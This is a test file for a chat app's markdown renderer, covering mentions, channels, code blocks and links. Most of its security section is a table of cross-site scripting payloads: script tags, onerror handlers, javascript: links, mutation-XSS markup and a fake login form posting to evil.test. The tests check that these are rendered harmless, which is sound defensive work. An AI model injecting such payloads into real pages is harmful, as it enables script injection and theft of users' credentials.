import { describe, expect, test } from 'bun:test'
import { channelsIn, toBlocks, type Block } from './markdown'

const nobody = { mentioned: new Set<string>(), me: 'ada' }
/** Without the sanitiser, which needs a real browser: the renderer alone has to be safe. test/e2e checks both in Chromium. */
const asRendered = (html: string) => html
const html = (source: string, names = nobody) =>
  toBlocks(source, names, [], asRendered)
    .map((block) => (block.type === 'html' ? block.html : `<code-block>${block.text}</code-block>`))
    .join('')

describe('what a message may not do', () => {
  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a picture with a handler', '<img src=x onerror=alert(1)>'],
    ['an SVG with a handler', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
    ['a frame', '<iframe src="javascript:alert(1)"></iframe>'],
    ['a form', '<form action="https://evil.test"><input name=password><button>Log in</button></form>'],
    ['a style', '<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>'],
    ['a link that runs', '[x](javascript:alert(1))'],
    ['a link that runs, disguised', '[x](JaVa&#x09;ScRiPt:alert(1))'],
    ['a link with data', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a link to a script of another host', '[x](//evil.test/x)'],
    ['a reference that runs', '[x][y]\n\n[y]: vbscript:msgbox(1)'],
    ['an automatic link that runs', '<javascript:alert(1)>'],
    ['a title with a quote', '[x](https://a.test "\\" onmouseover=alert(1) x=\\"")'],
    ['an object', '<object data="https://evil.test/x.swf"></object><embed src=x>'],
    ['MathML that mutates', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['an id that shadows', '<a id="main" name="cookie">x</a>'],
    ['a comment that closes', '<!--><img src=x onerror=alert(1)>-->'],
    ['code that closes', '`</code><img src=x onerror=alert(1)>`'],
    ['a decision’s title', '**<img src=x onerror=alert(1)>**\n\n**](javascript:alert(1))'],
    ['a link in a link', '[[x](javascript:alert(1))](https://a.test)'],
    ['a picture in a link', '[![x](javascript:alert(1))](javascript:alert(2))'],
    ['a picture that runs', '![x](javascript:alert(1) "onerror=alert(1)")'],
    ['a mention with a tag', '@scout<img src=x onerror=alert(1)>'],
    ['a bare address with a quote', 'https://a.test/"onmouseover="alert(1)'],
    ['entities that become a tag', '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;'],
    ['a link with control characters', '[x](java\u0000script:alert(1)) [y](\u0001javascript:alert(1))'],
    ['a heading with an id', '# <h1 id="main" onclick=alert(1)>x</h1>'],
    ['a table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ])('%s', (_, source) => {
    const page = document.createElement('div')
    page.innerHTML = html(source)
    for (const element of page.querySelectorAll('*')) {
      expect(['SCRIPT', 'IMG', 'SVG', 'IFRAME', 'FORM', 'STYLE', 'OBJECT', 'EMBED', 'MATH', 'BUTTON']).not.toContain(
        element.tagName.toUpperCase(),
      )
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^name$/)
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|\/(?!\/)|#)/)
      }
    }
  })
})

test('tags in angle brackets are text to read', () => {
  expect(html('use `Array<T>` or Map<K, V> and <b>bold</b>')).toContain('&#60;b&#62;bold&#60;/b&#62;')
})

test('a remote picture is a link, so that nobody learns who reads', () => {
  expect(html('![a cat](https://cats.test/1.png)')).toContain('<a href="https://cats.test/1.png"')
})

test('links open elsewhere and say nothing about this page', () => {
  const page = document.createElement('div')
  page.innerHTML = html('[docs](https://docs.test/a?b=1&c=2)')
  const link = page.querySelector('a')
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(link?.getAttribute('rel')).toContain('noopener')
  expect(link?.getAttribute('href')).toBe('https://docs.test/a?b=1&c=2')
})

test('tables, lists, emphasis and line breaks are kept', () => {
  const page = document.createElement('div')
  page.innerHTML = html('one\ntwo\n\n- **a**\n- [x] done\n\n| h |\n|---|\n| c |')
  expect(page.querySelectorAll('br, li, strong, td, .task')).toHaveLength(6)
})

test('code is a block of its own, with its language and as it was written', () => {
  const blocks = toBlocks('before\n\n```ts title\nconst a = "<b>"\n```\n\nafter', nobody)
  expect(blocks.map((block) => block.type)).toEqual(['html', 'code', 'html'])
  expect(blocks[1]).toMatchObject({ language: 'ts', text: 'const a = "<b>"' })
})

describe('mentions', () => {
  const names = { mentioned: new Set(['scout', 'ada', 'a.b-c']), me: 'ada' }

  test('of somebody are marked, and those of the reader stand out', () => {
    expect(html('@scout and @ada', names)).toBe(
      '<p><span class="mention">@scout</span> and <span class="mention mention-me">@ada</span></p>\n',
    )
  })

  test.each([
    ['of nobody', '@nobody'],
    ['in an address', 'mail me at x@scout'],
    ['in code', '`@scout`'],
    ['in a path', 'npm i pkg/@scout'],
    ['after a Chinese letter', '你@scout'],
  ])('%s are text', (_, source) => {
    expect(html(source, names)).not.toContain('mention')
  })

  test('may be written in capitals and end a sentence', () => {
    expect(html('Ask @Scout, or @a.b-c.', names)).toContain(
      '<span class="mention">@Scout</span>, or <span class="mention">@a.b-c</span>.',
    )
  })
})

test('of a text that grows only the last block changes', () => {
  let blocks: Block[] = []
  const source = '# Title\n\nFirst paragraph.\n\nSecond para'
  blocks = toBlocks(source, nobody)
  const grown = toBlocks(`${source}graph.`, nobody, blocks)
  expect(grown).toHaveLength(3)
  expect(grown[0]).toBe(blocks[0]!)
  expect(grown[1]).toBe(blocks[1]!)
  expect(grown[2]).not.toBe(blocks[2]!)
})

test('a message that is nested too deeply for the parser is shown as it was written', () => {
  const source = '> '.repeat(20_000)
  expect(toBlocks(source, nobody, [], asRendered)).toEqual([
    { raw: source, type: 'code', language: undefined, text: source },
  ])
})

describe('channels', () => {
  const names = { ...nobody, channels: new Set(['general', 'a-b.c', '设计']) }

  test('are links to them, as far as the reader knows them', () => {
    expect(html('see #general, #General. and #a-b.c, #设计 and #vault', names)).toBe(
      '<p>see <a class="mention" href="/c/general">#general</a>, <a class="mention" href="/c/general">#General</a>. and ' +
        '<a class="mention" href="/c/a-b.c">#a-b.c</a>, <a class="mention" href="/c/%E8%AE%BE%E8%AE%A1">#设计</a> and #vault</p>\n',
    )
    expect(html('**#general**', names)).toContain('<strong><a class="mention" href="/c/general">#general</a></strong>')
  })

  test.each([
    'x#general',
    'https://example.org/#general',
    'the colour ##general',
    '`#general`',
    '[#general](https://example.org)',
    '&#general',
    '#generally',
  ])('%s is none', (source) => expect(html(source, names)).not.toContain('/c/general'))

  test('names are found in a text however it is written', () => {
    expect(channelsIn('#general: is #a-b.c. or #General?')).toEqual(['general', 'a-b.c', 'general'])
    expect(channelsIn('# heading, no # channel')).toEqual([])
  })
})
